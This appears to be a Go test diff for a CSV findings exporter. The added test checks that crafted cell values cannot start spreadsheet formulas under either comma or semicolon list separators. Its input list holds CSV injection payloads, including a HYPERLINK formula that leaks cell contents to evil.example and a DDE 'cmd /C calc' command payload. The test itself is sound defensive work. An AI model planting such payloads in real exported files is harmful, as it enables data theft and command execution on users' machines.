@@ -11,6 +11,7 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode/utf8"
 
 	"github.com/google/go-cmp/cmp"
 
@@ -421,6 +422,96 @@ func TestScrubFinding(t *testing.T) {
 		f := scrubFinding(snapshot.Finding{Code: snapshot.DQNormalised, Table: c.table, Column: c.column, Value: "Tỉnh Thái Bình"})
 		if got := f.Value != ""; got != c.keep {
 			t.Errorf("%s.%s: value kept = %v, want %v", c.table, c.column, got, c.keep)
+		}
+	}
+}
+
+// TestFindingsCSVFormulaSplit opens findings.csv as spreadsheet programs
+// do in both kinds of locale: split on ',' with quotes (encoding/csv), and
+// split on ';' and line breaks with quotes counting only at the start of a
+// cell (a locale whose list separator is ';'). No cell may start a formula
+// either way, although the names, messages and refs hold formulas after a
+// ';', a line break, spaces or a quote.
+func TestFindingsCSVFormulaSplit(t *testing.T) {
+	crafted := []string{
+		`x;=HYPERLINK("http://evil.example/?"&A1,"bấm")`,
+		";+cmd|' /C calc'!A0",
+		";@SUM(1)",
+		";-1+2",
+		"a;\t=1+1",
+		"a;\r=1+1",
+		"a\n=1+1",
+		"a\r\n@SUM(1)",
+		`a; "=1+1"`,
+		`a;"=1+1`,
+		"a;  -2+3",
+		"a;\uff1d1+1",
+		"=1+1",
+		"\t=1+1",
+		"\r=1+1",
+		" @SUM(1)",
+	}
+	r := built()
+	var fs []Finding
+	for i, s := range crafted {
+		fs = append(fs, Finding{Target: "TB-01", Subject: "s" + s, SubjectLevel: "commune", SubjectName: s,
+			Path: []string{"tb", s}, Status: checker.StatusFail, Key: "k" + s,
+			Violations: []checker.Violation{{Msg: "chưa có mô hình " + s, Refs: []string{"xa-1", s, "-" + s}}}})
+		if i%2 == 0 {
+			fs = append(fs, Finding{Target: "TB-02", Subject: s, Status: checker.StatusError, Error: strp(s)})
+		}
+	}
+	r.Findings = fs
+	data, err := FindingsCSV(r, Vietnamese)
+	if err != nil {
+		t.Fatal(err)
+	}
+	text := strings.TrimPrefix(string(data), "\ufeff")
+	formula := func(cell string) bool {
+		if cell == "" {
+			return false
+		}
+		if cell[0] == '\t' || cell[0] == '\r' {
+			return true
+		}
+		first, _ := utf8.DecodeRuneInString(strings.TrimLeft(cell, " \""))
+		return strings.ContainsRune("=+-@\uff1d\uff0b\uff0d\uff20", first)
+	}
+	// Split on ',' with quotes, as Excel does where ',' is the list separator.
+	recs, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(recs) != 1+len(fs) {
+		t.Fatalf("%d records, want %d", len(recs), 1+len(fs))
+	}
+	for _, rec := range recs {
+		for _, cell := range rec {
+			if formula(cell) {
+				t.Errorf("split on ',': cell %q starts a formula", cell)
+			}
+		}
+	}
+	// Split on ';' and line breaks, where ';' is the list separator: a
+	// quote opens a quoted cell only at the start of a cell.
+	cells := 0
+	for _, line := range strings.FieldsFunc(text, func(r rune) bool { return r == '\n' || r == '\r' }) {
+		for _, cell := range strings.Split(line, ";") {
+			cells++
+			if formula(cell) {
+				t.Errorf("split on ';': cell %q starts a formula", cell)
+			}
+		}
+	}
+	if cells < 3*len(crafted) {
+		t.Fatalf("split on ';' gave %d cells, too few for the crafted rows", cells)
+	}
+	// The text itself is kept: only apostrophes are added (encoding/csv
+	// reads a CR of a quoted field as a line break).
+	plain := strings.NewReplacer("'", "", "\r", "")
+	for i, rec := range recs[1:] {
+		if got := plain.Replace(rec[3]); rec[0] == "TB-01" && got != plain.Replace(fs[i].SubjectName) {
+			t.Errorf("subject_name %q, want %q with apostrophes only", rec[3], fs[i].SubjectName)
 		}
 	}
 }
